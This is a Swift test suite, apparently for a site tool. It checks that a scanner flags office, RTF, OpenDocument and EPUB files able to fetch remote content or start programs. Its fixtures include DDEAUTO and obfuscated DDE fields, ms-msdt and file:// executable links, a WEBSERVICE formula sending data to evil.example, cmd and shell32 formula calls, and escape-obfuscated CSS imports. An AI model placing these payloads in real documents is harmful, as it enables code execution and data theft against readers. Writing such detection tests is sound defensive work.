import HoofbeatContent
import HoofbeatPipeline
import HoofbeatTestSupport
import Testing

private typealias Part = ArchiveBytes.Entry

/// What may be in fields, links, formulas, styles and alarms is listed; anything else might fetch
/// or start something when a reader opens the file.
@Suite("A file that readers open") struct FetchingDocumentTests {
    private func problems(_ path: String, _ bytes: [UInt8]) throws -> [String] {
        let site = try TestSite()
        try site.write("content/static/" + path, bytes: bytes)
        return try site.problems()
    }

    private func expectRuns(
        _ path: String, _ bytes: [UInt8], at place: SourceLocation = #_sourceLocation
    ) throws {
        #expect(
            try problems(path, bytes) == ["file-that-runs content/static/\(path)"],
            sourceLocation: place)
    }

    private func expectHarmless(
        _ path: String, _ bytes: [UInt8], at place: SourceLocation = #_sourceLocation
    ) throws {
        #expect(try problems(path, bytes) == [], sourceLocation: place)
    }

    private static func word(_ body: String) -> [UInt8] {
        ArchiveBytes.of([
            Part("[Content_Types].xml", ArchiveBytes.types),
            Part("word/document.xml", "<w:document xmlns:w='w'>\(body)</w:document>"),
        ])
    }

    /// A field of Word, with what stands in its instruction.
    private static func field(_ inside: String) -> String {
        "<w:fldChar w:fldCharType='begin'/>\(inside)<w:fldChar w:fldCharType='end'/>"
    }

    private static func text(_ instruction: String) -> String {
        "<w:instrText>\(instruction)</w:instrText>"
    }

    @Test(
        "of Word has no field but those that show something",
        arguments: [
            " INCLUDEPICTURE &quot;https://evil.example/p.png&quot; \\d", " INCLUDETEXT x",
            " LINK Excel.Sheet.8 x", " IMPORT x", " DATABASE \\d x", " MACROBUTTON Evil click",
            " ddeauto x", " HYPERLINK &quot;file:///c:/x.exe&quot;", "&#68;DE x", " EMBED x",
            " HYPERLINK ms-msdt:x", " HYPERLINK \\o &quot;x&quot; &quot;file:///c:/x.exe&quot;",
            " HYPERLINK \\\\evil\\x",
        ])
    func wordField(instruction: String) throws {
        try expectRuns("a.docx", Self.word(Self.field(Self.text(instruction))))
        let simple = "<w:fldSimple w:instr=\"\(instruction)\"/>"
        try expectRuns("a.docx", Self.word(simple))
    }

    @Test("of Word has no field whose name another field writes")
    func wordQuote() throws {
        let quote = Self.field(Self.text("QUOTE 68 68 69"))
        try expectRuns("a.docx", Self.word(Self.field(quote + Self.text(" c:\\x"))))
        try expectRuns("a.docx", Self.word(Self.field(Self.text("DD") + quote)))
        let open = "<w:fldChar w:fldCharType='begin'/>" + Self.text("DDE x")
        try expectRuns("a.docx", Self.word(open))
    }

    @Test("of Word has pages, contents, dates, sources and links")
    func wordFields() throws {
        let fields = [
            " PAGE  \\* MERGEFORMAT ", "TOC \\o &quot;1-3&quot; \\h", " =1+1",
            " ADDIN ZOTERO_ITEM {}",
            " HYPERLINK &quot;https://example.org/&quot; ", " HYPERLINK \\l &quot;_Toc1&quot; \\h",
            "",
            " HYPERLINK &quot;https://example.org/&quot; \\o &quot;ms-x: a tip&quot;",
        ].map { Self.field(Self.text($0)) }
        let inner = Self.field(
            Self.text(" IF ") + Self.field(Self.text(" PAGE ")) + Self.text("=1"))
        try expectHarmless("a.docx", Self.word(fields.joined() + inner))
    }

    @Test(
        "of an office program has links to web pages, mail and telephones alone",
        arguments: [
            "javascript:alert(1)", "java&#10;script:x", "file:///c:/windows/system32/calc.exe",
            "ms-msdt:/id x", "\\\\evil\\share\\x", "//evil/share", "c:\\x.exe", "../x.exe",
        ])
    func links(address: String) throws {
        let link = ArchiveBytes.relationship("hyperlink", to: address)
        try expectRuns("a.docx", ArchiveBytes.word([link]))
        let open = "<x xmlns:l='l'><text:a l:href='\(address)'/></x>"
        try expectRuns("a.odt", ArchiveBytes.open("text", content: open))
    }

    @Test("of an office program may link to web pages, mail, telephones and files beside it")
    func goodLinks() throws {
        for address in [
            "https://example.org/a.php?x=1", "mailto:a@example.org", "tel:000", "#top", "a.pdf",
        ] {
            let link = ArchiveBytes.relationship("hyperlink", to: address)
            try expectHarmless("a.docx", ArchiveBytes.word([link]))
            let open = "<x xmlns:l='l'><text:a l:href='\(address)'/></x>"
            try expectHarmless("a.odt", ArchiveBytes.open("text", content: open))
        }
        // A part that is inside, whatever its type says, names no address.
        let picture = ArchiveBytes.relationship("image", to: "https://evil.example/p", mode: "")
        try expectRuns("a.docx", ArchiveBytes.word([picture]))
        let drawn = "<v:imagedata src='https://evil.example/p.png'/>"
        try expectRuns("a.docx", Self.word(drawn))
        try expectRuns("a.docx", Self.word("<w:mailMerge/>"))
    }

    private static func sheet(_ formula: String) -> [UInt8] {
        let sheet = "<worksheet><c><f>\(formula)</f><v>1</v></c></worksheet>"
        return ArchiveBytes.office(
            "xl/workbook.xml", [Part("xl/worksheets/sheet1.xml", sheet)])
    }

    @Test("that is a workbook has formulas that only calculate")
    func formulas() throws {
        for formula in [
            "_xlfn.WEBSERVICE(\"https://evil.example/\"&amp;A1)", "RTD(\"evil\",,\"x\")",
            "CALL(\"shell32\",\"x\")", "_xlfn.IMAGE(\"x\")", "cmd|'/c calc'!A0",
            "1+webservice (A1)",
            "HYPERLINK(\"file:///c:/x.exe\",\"x\")", "'https://evil.example/[x.xlsx]S'!A1",
            "REGISTER.ID(\"x\",\"y\")",
        ] {
            try expectRuns("a.xlsx", Self.sheet(formula))
        }
        for formula in [
            "SUM(A1:B2)*1.5", "_xlfn._xlws.SORT(A1:A3)", "IF(A1=\"CALL(x)\",'My | sheet'!B2,\"|\")",
            "NORM.S.DIST(1,TRUE)", "HYPERLINK(\"https://example.org/\",\"x\")", "A1", "#REF!",
        ] {
            try expectHarmless("a.xlsx", Self.sheet(formula))
        }
        for formula in [
            "of:=WEBSERVICE(\"https://evil.example/\")", "of:=DDE(\"soffice\";\"x\";\"y\")",
            "of:='https://evil.example/x.ods'#$Sheet1.A1", "of:=COM.EVIL.RUN(1)",
        ] {
            let content =
                "<o xmlns:t='t'><t:table-cell t:formula='"
                + formula.replacing("'", with: "&#39;") + "'/></o>"
            try expectRuns("a.ods", ArchiveBytes.open("spreadsheet", content: content))
        }
        let content =
            "<o xmlns:t='t'><t:table-cell t:formula='of:=SUM([.A1:.B2];{1|2})'/>"
            + "<style:map style:condition='cell-content-is-between(1,2)'/>"
            + "<calcext:condition calcext:value='formula-is(LEN([.A1])=0)'/></o>"
        try expectHarmless("a.ods", ArchiveBytes.open("spreadsheet", content: content))
    }

    @Test("that has slides starts nothing on a click, and only shows")
    func slides() throws {
        for action in ["hlinkfile", "hlinkpres?x", "program", "macro?x", "unknown"] {
            let slide = "<s><a:hlinkClick action='ppaction://\(action)'/></s>"
            let part = Part("ppt/slides/slide1.xml", slide)
            try expectRuns("a.pptx", ArchiveBytes.office("ppt/presentation.xml", [part]))
        }
        let execute = "<x xmlns:presentation='p' presentation:action='execute'/>"
        try expectRuns("a.odp", ArchiveBytes.open("presentation", content: execute))
        let next = execute.replacing("execute", with: "next-page")
        try expectHarmless("a.odp", ArchiveBytes.open("presentation", content: next))
    }

    @Test("of OpenDocument has all parts inside")
    func openParts() throws {
        for element in [
            "<text:section-source l:href='../x.odt'/>", "<draw:image l:href='../../p.png'/>",
            "<draw:image l:href='/etc/passwd'/>", "<text:execute-macro/>",
            "<form:form l:href='https://evil.example/'/>",
        ] {
            let content = "<x xmlns:l='l'>\(element)</x>"
            try expectRuns("a.odt", ArchiveBytes.open("text", content: content))
        }
        let inside =
            "<x xmlns:l='l'><draw:image l:href='Pictures/1.png'/>"
            + "<draw:object l:href='./Object 1'/>"
            + "<draw:area-rectangle l:href='https://example.org/'/></x>"
        try expectHarmless("a.odt", ArchiveBytes.open("text", content: inside))
    }

    @Test(
        "in RTF has no field but those that show something, however it is written",
        arguments: [
            "D\\'44EAUTO c:\\\\x", "\\u68?\\u68?\\u69? x", "{D}{D}{E}AUTO x",
            "INCLUDEPICTURE \"x\"",
            "{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt x}} c:\\\\x", "INCLUDETEXT \"x\"",
            "HYPERLINK \"file:///c:/x.exe\"", "HYPERLINK \"\\u106?avascript:x\"", "LINK x",
        ])
    func rich(instruction: String) throws {
        let text = "{\\rtf1 {\\field{\\*\\fldinst \(instruction)}{\\fldrslt x}}}"
        try expectRuns("a.rtf", Array(text.utf8))
    }

    @Test("in RTF has pages and links")
    func plainRich() throws {
        let text = """
            {\\rtf1 {\\field{\\*\\fldinst {\\rtlch\\af0 \\ltrch\\insrsid1  PAGE  }}{\\fldrslt 1}}
            {\\field\\flddirty{\\*\\fldinst{HYPERLINK "https://example.org/"}}{\\fldrslt x}}}
            """
        try expectHarmless("a.rtf", Array(text.utf8))
    }

    private static func book(_ body: String, head: String = "", css: String = "") -> [UInt8] {
        ArchiveBytes.book([
            Part("a.xhtml", "<html><head>\(head)</head><body>\(body)</body></html>"),
            Part("a.css", css),
        ])
    }

    @Test("that is a book fetches nothing by styles, attributes and instructions")
    func book() throws {
        for css in [
            "@import 'https://evil.example/x.css';", "@im\\70ort url(//evil.example/x)",
            "b{background:u\\72l(https://evil.example/p.png)}",
            "b{background:image-set('https://evil.example/p' 1x)}",
        ] {
            try expectRuns("a.epub", Self.book("x", css: css))
            try expectRuns("a.epub", Self.book("x", head: "<style>\(css)</style>"))
        }
        for body in [
            "<p style=\"background:url(https://evil.example/)\"/>",
            "<table background='https://evil.example/p.png'/>", "<a href='file:///x'>x</a>",
            "<img src='a.png' srcset='https://evil.example/p.png 2x'/>",
        ] {
            try expectRuns("a.epub", Self.book(body))
        }
        let refresh = "<meta http-equiv='Refresh' content='0;url=https://evil.example/'/>"
        try expectRuns("a.epub", Self.book("x", head: refresh))
        let instruction = "<?xml-stylesheet href='https://evil.example/x.css'?><html/>"
        try expectRuns("a.epub", ArchiveBytes.book([Part("a.xhtml", instruction)]))
        let item = "<package><item href='https://evil.example/a.xhtml'/></package>"
        try expectRuns("a.epub", ArchiveBytes.book([Part("a.opf", item)]))
    }

    @Test("that is a book has styles, fonts and pictures of its own, and addresses as names")
    func ownBook() throws {
        let css = """
            @import "b.css"; @font-face { src: url(../fonts/x.woff) } b { background: url('p.png') }
            i { background: url(data:image/png;base64,x) } @keyframes x { from { top: 0 } }
            """
        let body =
            "<a href='b.xhtml#x'>x</a><a href='https://example.org/'>y</a>"
            + "<blockquote cite='https://example.org/'>z</blockquote>"
            + "<img src='p.png' alt='https://example.org'/>"
        try expectHarmless("a.epub", Self.book(body, head: "<style>\(css)</style>", css: css))
        let package =
            "<package prefix='x: https://example.org/'><meta content='https://x.org'/>"
            + "<item href='a.xhtml'/></package>"
        try expectHarmless("a.epub", ArchiveBytes.book([Part("a.opf", package)]))
    }
}
